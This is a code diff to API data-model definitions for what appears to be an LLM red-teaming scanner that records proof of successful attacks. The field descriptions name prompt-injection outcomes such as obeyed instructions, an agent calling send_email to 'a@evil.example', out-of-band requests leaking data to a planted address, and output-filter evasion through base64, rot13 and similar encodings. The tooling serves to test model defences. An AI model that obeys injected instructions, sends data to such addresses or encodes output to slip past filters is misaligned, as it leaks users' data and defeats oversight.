@@ -1,8 +1,9 @@
-import { ApiProperty, ApiPropertyOptional } from '@nestjs/swagger';
+import { ApiProperty, ApiPropertyOptional, ApiPropertyOptions } from '@nestjs/swagger';
 import { CleanText } from '../http/clean-text';
 import { IsIn, IsISO8601, IsOptional, IsString, IsUUID, MaxLength, MinLength } from 'class-validator';
-import { MAX_TRIAGE_REASON, PHASES, Phase, PROFILES, PROOF_KINDS, Profile, SCAN_ORIGINS, SCAN_STATUSES, ScanStatus, SEVERITIES, TRIAGE_STATES, TriageState } from '@gauntlet/domain';
+import { MAX_TRIAGE_REASON, PHASES, Phase, PROFILES, PROOF_KIND_MEANINGS, PROOF_KINDS, Profile, SCAN_ORIGINS, SCAN_STATUSES, ScanStatus, SEVERITIES, TRIAGE_STATE_LABELS, TRIAGE_STATES, TriageState } from '@gauntlet/domain';
 import { PageQuery } from '../http/pagination';
+import { READING_KINDS } from '@gauntlet/scanner';
 
 export class RequestScanBody {
   @ApiProperty({ format: 'uuid' })
@@ -111,8 +112,7 @@ class TurnView {
 class ProofMatchView {
   @ApiProperty({
     enum: PROOF_KINDS,
-    description:
-      "canary: one of the target's canaries; sensitive: a value its owner told (by label); recurrence: a value that came back in independent conversations (occurrences); obedience: an instruction obeyed; markup: markup the answer carried or ran; invention: something the target made up; tool_call: the call an agent made that did what the attack asked (tool, arguments); out_of_band: a request that reached an address the attempt planted (method, path or host, query, at)",
+    description: PROOF_KINDS.map((k) => `${k}: ${PROOF_KIND_MEANINGS[k]}`).join('; '),
   })
   kind: string;
   @ApiPropertyOptional({ description: 'the canary or sensitive value, by its label (never the value)' }) label?: string;
@@ -124,6 +124,7 @@ class ProofMatchView {
   @ApiPropertyOptional({ description: 'out_of_band: the host name that carried the token (a DNS lookup, method DNS, or an HTTP request to <token>.<CALLBACK_DOMAIN>)' }) host?: string;
   @ApiPropertyOptional({ description: 'out_of_band: its query string, without the "?"' }) query?: string;
   @ApiPropertyOptional({ format: 'date-time', description: 'out_of_band: when it arrived' }) at?: string;
+  @ApiPropertyOptional({ description: 'out_of_band: the request as every view writes it, bounded and on one line: "GET /oob/…/page?d=Jane"' }) request?: string;
 }
 
 class ProofView {
@@ -136,6 +137,8 @@ class ProofView {
   @ApiProperty({ description: 'what it shows, in the words every report and webhook use: "the instruction it obeyed", "the agent called send_email with to="a@evil.example"", "a request reached the planted address: GET /oob/…?d=… at …"' })
   shows: string;
   @ApiProperty({ description: 'where it is, in words: "turn 2", "turn 2, read as base64", "turn 2, as the page rendered it"' }) where: string;
+  @ApiProperty({ description: 'true when the proof is something the target did (a call it made, a request that reached the planted address), shown as that act rather than as a quote of the answer' })
+  act: boolean;
 }
 
 class EvidenceView {
@@ -145,7 +148,7 @@ class EvidenceView {
   @ApiPropertyOptional({ type: ProofView, description: 'the span of the answer that shows the weakness; every finding has one except some recorded before proofs existed' })
   proof?: ProofView;
   @ApiPropertyOptional({
-    enum: ['base64', 'hex', 'rot13', 'reversed', 'spelled-out', 'line-initials', 'look-alikes', 'leetspeak'],
+    enum: READING_KINDS,
     description: 'how the answer was read back into plain text, when only that reading showed the weakness (an output filter evaded)',
   })
   read_as?: string;
@@ -232,7 +235,8 @@ export class ScanDetailView extends ScanSummaryView {
 }
 
 export class TriageBody {
-  @ApiProperty({ enum: TRIAGE_STATES })
+  // the domain's states, and how each reads in x-enum-descriptions (the dashboard's triage select and badges)
+  @ApiProperty({ enum: TRIAGE_STATES, 'x-enum-descriptions': TRIAGE_STATES.map((s) => TRIAGE_STATE_LABELS[s]) } as ApiPropertyOptions)
   @IsIn(TRIAGE_STATES)
   state: TriageState;
 
